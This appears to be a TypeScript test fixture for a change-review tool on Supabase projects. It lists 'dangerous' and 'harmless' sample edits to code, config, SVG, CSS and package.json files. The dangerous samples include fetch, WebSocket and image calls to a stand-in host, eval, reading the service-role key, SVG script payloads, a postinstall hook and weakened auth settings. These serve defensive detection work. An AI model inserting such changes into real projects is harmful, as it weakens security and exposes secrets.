/** A kind of single changes of the files beside the JSON of a design, and of its project. */
export interface FileKind {
  readonly what: string;
  /** The files that it changes. */
  readonly path: RegExp;
  /** Returns the changed text; nothing if it does not apply. */
  change(text: string): string | undefined;
}

const swapped =
  (from: RegExp, to: string) =>
  (text: string): string | undefined =>
    from.test(text) ? text.replace(from, to) : undefined;
const appended =
  (line: string) =>
  (text: string): string =>
    `${text}\n${line}\n`;
const inJson =
  (change: (json: Record<string, Record<string, unknown> | undefined>) => void) =>
  (text: string): string => {
    const json = JSON.parse(text) as Record<string, Record<string, unknown>>;
    change(json);
    return JSON.stringify(json, null, 2);
  };
const code = /^(?:custom|supabase\/functions)\/.*\.ts$/;
const config = /^supabase\/config\.toml$/;

/** Every change of one of these kinds needs a second look. */
export const dangerousFileKinds: readonly FileKind[] = [
  {
    what: "code calls elsewhere",
    path: code,
    change: appended('export const x = () => fetch("https://novo.example/x");'),
  },
  {
    what: "code calls an address from parts",
    path: code,
    change: appended('export const x = () => fetch("https:" + "//" + "novo" + ".example");'),
  },
  {
    what: "code sends by a picture",
    path: code,
    change: appended('export const x = () => { new Image().src = "https://novo.example/x"; };'),
  },
  {
    what: "code opens a socket",
    path: code,
    change: appended('export const x = () => new WebSocket("wss://novo.example");'),
  },
  { what: "code runs text", path: code, change: appended("export const x = (text: string) => eval(text);") },
  {
    what: "code makes a function of text",
    path: code,
    change: appended("export const x = (text: string) => new Function(text);"),
  },
  { what: "code imports a package", path: code, change: appended('import "pacote-novo";') },
  { what: "code imports from an address", path: code, change: appended('import "https://novo.example/x.ts";') },
  {
    what: "code writes markup",
    path: code,
    change: appended("export const x = (text: string) => { document.body.innerHTML = text; };"),
  },
  {
    what: "code reads secrets",
    path: /^supabase\/functions\/.*\.ts$/,
    change: appended('export const x = Deno.env.get("SUPABASE_SERVICE_ROLE_KEY");'),
  },
  { what: "code does something else", path: code, change: swapped(/return /, "return !1 && ") },
  {
    what: "shorter passwords",
    path: config,
    change: swapped(/minimum_password_length = \d+/, "minimum_password_length = 4"),
  },
  {
    what: "sign-up without a confirmation",
    path: config,
    change: swapped(/enable_confirmations = true/, "enable_confirmations = false"),
  },
  { what: "a function without a sign-in", path: config, change: swapped(/verify_jwt = true/, "verify_jwt = false") },
  { what: "longer sessions", path: config, change: swapped(/jwt_expiry = \d+/, "jwt_expiry = 9999999") },
  { what: "everybody may sign up", path: config, change: swapped(/enable_signup = false/, "enable_signup = true") },
  {
    what: "more addresses to return to",
    path: config,
    change: swapped(/additional_redirect_urls = \[/, 'additional_redirect_urls = ["https://novo.example", '),
  },
  {
    what: "a picture with code",
    path: /^assets\/.*\.svg$/,
    change: swapped(/<\/svg>/, "<script>alert(1)</script></svg>"),
  },
  { what: "a picture with a handler", path: /^assets\/.*\.svg$/, change: swapped(/<svg /, '<svg onload="alert(1)" ') },
  {
    what: "a style sheet with an address",
    path: /^assets\/.*\.css$/,
    change: appended("a { background: url(https://novo.example/x.png); }"),
  },
  {
    what: "a new package",
    path: /^package\.json$/,
    change: inJson((json) => {
      json.dependencies = { ...json.dependencies, novo: "^1.0.0" };
    }),
  },
  {
    what: "another version of a package",
    path: /^package\.json$/,
    change: inJson((json) => {
      json.devDependencies = { ...json.devDependencies, typescript: "^1.0.0" };
    }),
  },
  {
    what: "a script of the installation",
    path: /^package\.json$/,
    change: inJson((json) => {
      json.scripts = { ...json.scripts, postinstall: "node x.mjs" };
    }),
  },
  {
    what: "a rule is off",
    path: /^trama\.config\.json$/,
    change: inJson((json) => {
      json.rules = { ...json.rules, "audit/anonymous-write": { level: "off", reason: "assim" } };
    }),
  },
];

/** No change of one of these kinds needs a second look. */
export const harmlessFileKinds: readonly FileKind[] = [
  { what: "a comment in code", path: code, change: appended("// Um comentário.") },
  { what: "spaces in code", path: code, change: swapped(/\n\n/, "\n\n\n") },
  { what: "a comment in the settings", path: config, change: appended("# Um comentário.") },
  {
    what: "longer passwords",
    path: config,
    change: swapped(/minimum_password_length = \d+/, "minimum_password_length = 20"),
  },
  { what: "a comment in a style sheet", path: /^assets\/.*\.css$/, change: appended("/* Um comentário. */") },
];
